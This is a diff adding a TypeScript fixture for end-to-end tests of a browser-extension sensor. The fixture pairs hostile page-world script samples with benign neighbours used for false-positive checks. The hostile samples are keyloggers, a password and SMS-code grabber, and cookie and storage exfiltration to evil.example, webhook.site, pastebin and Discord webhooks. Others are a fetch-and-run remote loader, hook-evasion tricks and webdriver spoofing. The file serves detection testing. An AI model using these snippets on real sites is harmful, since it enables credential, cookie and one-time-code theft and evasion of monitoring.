@@ -1,0 +1,193 @@
+/**
+ * Hostile page-world code for the MAIN-world sensor tests (tests/e2e/sensors-main-*.e2e.ts): each is
+ * what a real helper or stealer does, reduced to its behaviour. Served by the replica from the helper's
+ * "CDN" (`helper-cdn.test`) and loaded the ways real ones are: a helper extension's MAIN-world content
+ * script (`?saq-tag=<name>`), `scripting.executeScript` (`?saq-exec=<name>`, behaviours in the fixture's
+ * background), a `javascript:` URL (console/bookmarklet style), or a driver's evaluation.
+ */
+export const HELPER_CDN = 'helper-cdn.test';
+export const TELEGRAM = 'https://api.telegram.org/bot123456:TESTTOKEN/sendMessage';
+export const DISCORD_WEBHOOK = 'https://discord.com/api/webhooks/1234/TESTTOKEN';
+
+const ADD_TO_CART = `document.querySelector('[data-action="add-to-cart"]')`;
+
+/** Code an injected inline script runs (the e2e test hashes it to check actor.sha256). */
+export const INLINE_AUTOBUY = `${ADD_TO_CART}.click();`;
+
+export const MAIN_WORLD_SCRIPTS = {
+  /** Loads its payload as blob: and data: scripts, which no site ships. */
+  'blob-data': `(() => {
+  const blob = new Blob([${JSON.stringify(INLINE_AUTOBUY)}], { type: 'text/javascript' });
+  const fromBlob = document.createElement('script');
+  fromBlob.src = URL.createObjectURL(blob);
+  document.head.appendChild(fromBlob);
+  const fromData = document.createElement('script');
+  fromData.src = 'data:text/javascript;base64,' + btoa('window.__helperData = 1;');
+  document.head.appendChild(fromData);
+})();`,
+
+  /** Runs an inline script that deletes itself, then loads a script that removes itself after loading. */
+  'self-remove': `(() => {
+  const inline = document.createElement('script');
+  inline.textContent = 'window.__helperRan = true; document.currentScript.remove();';
+  document.head.appendChild(inline);
+  const loader = document.createElement('script');
+  loader.src = 'https://${HELPER_CDN}/quiet.js';
+  loader.onload = () => loader.remove();
+  document.head.appendChild(loader);
+})();`,
+  quiet: `window.__helperQuiet = true;`,
+
+  /** The classic loader: downloads the real code and runs it with new Function. */
+  'remote-loader': `fetch('https://${HELPER_CDN}/payload.txt').then((r) => r.text()).then((code) => new Function(code)());`,
+  payload: `/* helper payload */ ${ADD_TO_CART}.click(); window.__helperPayload = true;`,
+
+  /** Hides its code in base64 and runs it through a string timer. */
+  'decoded-timer': `setTimeout(atob(${JSON.stringify(Buffer.from(`/* hidden */ ${ADD_TO_CART}.click();`).toString('base64'))}), 0);`,
+
+  /** Reads the password as it is typed and sends it out as an image pixel. */
+  'password-pixel': `(() => {
+  const field = document.querySelector('[data-role="password"]');
+  field.addEventListener('input', () => {
+    new Image().src = 'https://evil.example/p.gif?u=' + encodeURIComponent(field.value);
+  });
+})();`,
+
+  /** Leaks storage by sendBeacon to a webhook site. */
+  'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
+
+  /** Streams the cookie over a WebSocket. */
+  websocket: `(() => {
+  const socket = new WebSocket('wss://evil.example/ws');
+  socket.onopen = () => socket.send(document.cookie);
+})();`,
+
+  /** Posts a hidden form to a paste site. */
+  'form-post': `(() => {
+  const form = document.createElement('form');
+  form.method = 'POST';
+  form.action = 'https://pastebin.com/api/api_post.php';
+  form.target = 'helper-sink';
+  const frame = document.createElement('iframe');
+  frame.name = 'helper-sink';
+  frame.hidden = true;
+  const field = document.createElement('input');
+  field.name = 'api_paste_code';
+  field.value = document.cookie;
+  form.appendChild(field);
+  document.body.append(frame, form);
+  form.submit();
+})();`,
+
+  /** A "script pixel": the data goes out in the URL of a script element. */
+  'script-pixel': `(() => {
+  const pixel = document.createElement('script');
+  pixel.src = ${JSON.stringify(DISCORD_WEBHOOK)} + '?content=' + encodeURIComponent(document.cookie);
+  document.head.appendChild(pixel);
+})();`,
+
+  /** Session storage to a Discord webhook by XHR. */
+  'xhr-session': `(() => {
+  const xhr = new XMLHttpRequest();
+  xhr.open('POST', ${JSON.stringify(DISCORD_WEBHOOK)});
+  xhr.setRequestHeader('Content-Type', 'application/json');
+  xhr.send(JSON.stringify({ content: JSON.stringify({ ...sessionStorage }) }));
+})();`,
+
+  /** A keylogger on the password field itself. */
+  'field-keylogger': `(() => {
+  const keys = [];
+  document.querySelector('[data-role="password"]').addEventListener('keydown', (event) => keys.push(event.key));
+})();`,
+
+  /** A keylogger on the whole document, through the handler property. */
+  'document-keylogger': `(() => {
+  const keys = [];
+  document.onkeyup = (event) => keys.push(event.key);
+})();`,
+
+  /** Grabs the SMS code as it is typed and sends it with fetch. */
+  'sms-grabber': `(() => {
+  const field = document.querySelector('[data-role="sms-code"]');
+  document.querySelector('[data-role="password"]').addEventListener('change', () => {
+    fetch('https://evil.example/otp', { method: 'POST', mode: 'no-cors', body: field.value || 'empty' });
+  });
+  fetch('https://evil.example/otp-armed', { method: 'POST', mode: 'no-cors', body: field.value });
+})();`,
+
+  /** Takes a pristine fetch from a fresh about:blank iframe to slip past the page's hooks. */
+  'pristine-iframe': `(() => {
+  const frame = document.createElement('iframe');
+  frame.style.display = 'none';
+  document.body.appendChild(frame);
+  const cleanFetch = frame.contentWindow.fetch;
+  cleanFetch('https://evil.example/pristine?c=' + encodeURIComponent(document.cookie));
+})();`,
+
+  /** The same trick without touching contentWindow: innerHTML, then window[n]. */
+  'pristine-window-index': `(() => {
+  const holder = document.createElement('div');
+  document.body.appendChild(holder);
+  holder.innerHTML = '<iframe style="display:none"></iframe>';
+  const clean = window[window.length - 1];
+  clean.fetch('https://evil.example/indexed?c=' + encodeURIComponent(document.cookie));
+})();`,
+
+  /** Puts the pristine fetch back in place of the page's (hooked) one. */
+  'restore-fetch': `(() => {
+  const frame = document.createElement('iframe');
+  document.body.appendChild(frame);
+  window.fetch = frame.contentWindow.fetch;
+})();`,
+
+  /** Replaces Function.prototype.toString to read hooks' real source (and hide its own patches). */
+  'tostring-patch': `(() => {
+  const original = Function.prototype.toString;
+  Function.prototype.toString = function toString() { return original.call(this); };
+})();`,
+
+  /** Imitates the extension's private channel hello to feed it forged reports. */
+  'spoof-channel': `(() => {
+  const channel = new MessageChannel();
+  window.postMessage({ 'saq:channel-hello/v1': true }, '*', [channel.port2]);
+  channel.port1.postMessage({ t: 'finding', finding: { kind: 'script-inserted', actor: { type: 'page' }, evidence: {}, at: Date.now() } });
+})();`,
+} as const;
+
+export type MainWorldScript = keyof typeof MAIN_WORLD_SCRIPTS;
+
+/**
+ * A "console paste" / bookmarklet: code with no URL. Navigating the tab to a `javascript:` URL runs it
+ * with anonymous frames (the test's own evaluate call only sets `location`, and its frames are gone).
+ */
+export const CONSOLE_PASTE = `javascript:void (() => { const s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/from-console.js'; document.head.appendChild(s); })()`;
+export const FROM_CONSOLE = `window.__fromConsole = true;`;
+
+/** ChromeDriver's marker globals, as its injected script leaves them (the test page plays the driver). */
+export const CDC_GLOBALS = `<script>window.cdc_adoQpoasnfa76pfcZLmcfl_Array = Array; window.cdc_adoQpoasnfa76pfcZLmcfl_Promise = Promise;</script>`;
+
+/** What a "stealth" plugin does first: makes navigator.webdriver read false with a script getter. */
+export const STEALTH_WEBDRIVER = `<script>Object.defineProperty(Navigator.prototype, 'webdriver', { get: () => false, configurable: true, enumerable: true });</script>`;
+
+/** Benign neighbours. */
+export const BENIGN = {
+  /** A user-agent switcher extension's page-world patch: a privacy tool, not a bot. */
+  uaSwitcher: `<script>Object.defineProperty(Navigator.prototype, 'userAgent', { get: () => 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', configurable: true, enumerable: true });</script>`,
+  /** A first-party script that compiles templates with new Function and polls with a string timer. */
+  templates: `(() => {
+  const render = new Function('data', 'return "<b>" + data.name + "</b>";');
+  window.__rendered = render({ name: 'Ілбіс' });
+  setTimeout('window.__tick = (window.__tick || 0) + 1', 10);
+  const printFrame = document.createElement('iframe');
+  printFrame.style.display = 'none';
+  document.body.appendChild(printFrame);
+  printFrame.contentWindow.document.title = 'print';
+})();`,
+  /** A monitoring library (error/performance tracking) that wraps fetch and addEventListener, calling through. */
+  monitoring: `(() => {
+  const fetchBefore = window.fetch;
+  window.fetch = function (...args) { return fetchBefore.apply(this, args); };
+  const listenBefore = EventTarget.prototype.addEventListener;
+  EventTarget.prototype.addEventListener = function (...args) { return listenBefore.apply(this, args); };
+})();`,
+} as const;
